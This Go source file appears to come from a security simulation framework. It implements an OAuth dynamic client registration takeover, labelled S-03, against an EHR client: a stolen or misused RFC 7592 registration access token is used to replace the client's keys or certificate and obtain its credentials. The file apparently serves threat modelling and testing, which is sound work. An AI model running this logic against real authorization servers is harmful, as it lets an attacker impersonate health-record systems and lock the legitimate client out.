package attacker

import (
	"context"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// The thief changes the registration of the EHR so that his own key is its key, and then is the EHR.
func registrationTakeover(id, variant, title, story string, reads []string, has event.Asset, beyond string) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Has: []event.Asset{has}, Beyond: beyond,
		Run: func(ctx context.Context, g Ground) error {
			var c fapi.Credentials
			if err := stolenJSON(g, has, &c); err != nil {
				return err
			}
			meta, err := discover(ctx, g, g.Target().Issuer)
			if err != nil {
				return err
			}
			uri := meta.RegistrationEndpoint + "/" + g.Target().ClientID
			was, err := manage(ctx, g, uri, c.RegistrationToken, nil)
			if err != nil {
				return err
			}
			method, _ := was.all["token_endpoint_auth_method"].(string)
			switch method {
			case "private_key_jwt":
			case "tls_client_auth", "self_signed_tls_client_auth":
				return takeOverByCertificate(ctx, g, uri, c.RegistrationToken, was.all)
			default: // then the registration shows the secret itself
				return clientCredentials(ctx, g, was.credentials(g, method))
			}
			was.all["jwks"] = ownKeys(g)
			now, err := manage(ctx, g, uri, c.RegistrationToken, was.all)
			if err != nil {
				return err
			}
			return clientCredentials(ctx, g, now.credentials(g, method))
		},
	})
}

// takeOverByCertificate registers a certificate of the thief's own in place of the client's.
func takeOverByCertificate(ctx context.Context, g Ground, uri, token string, m metadata) error {
	own, err := selfSigned(g, g.Target().ClientID)
	if err != nil {
		return err
	}
	jwk, err := fapi.CertificateJWK(own.Certificate)
	if err != nil {
		return err
	}
	delete(m, "tls_client_auth_subject_dn")
	m["token_endpoint_auth_method"], m["jwks"] = "self_signed_tls_client_auth", map[string]any{"keys": []any{jwk}}
	if _, err := manage(ctx, g, uri, token, m); err != nil {
		return err
	}
	return machineAccessWith(ctx, g, g.Target().ClientID, own)
}

var _ = registrationTakeover("S-03", "stolen-token", "A registration access token is stolen, and the client's key exchanged",
	"A build server's log holds the token with which the EHR manages its registration. It is a bearer token: whoever has it puts in a key of "+
		"his own, and from then on is the EHR. The EHR itself is locked out.",
	[]string{"RFC 7592 s5, appendix A"}, event.RegistrationToken,
	"RFC 7592 makes the token a bearer token, and FAPI 2.0 does not speak of registration. Somebody should approve a change of keys.")

var _ = registrationTakeover("S-03/own", "own-token", "One client's registration access token changes another's registration",
	"The thief has an app of his own, and the token that manages it. He uses it at the address of the EHR's registration.",
	[]string{"RFC 7592 s2, s3"}, event.OwnClient, "")
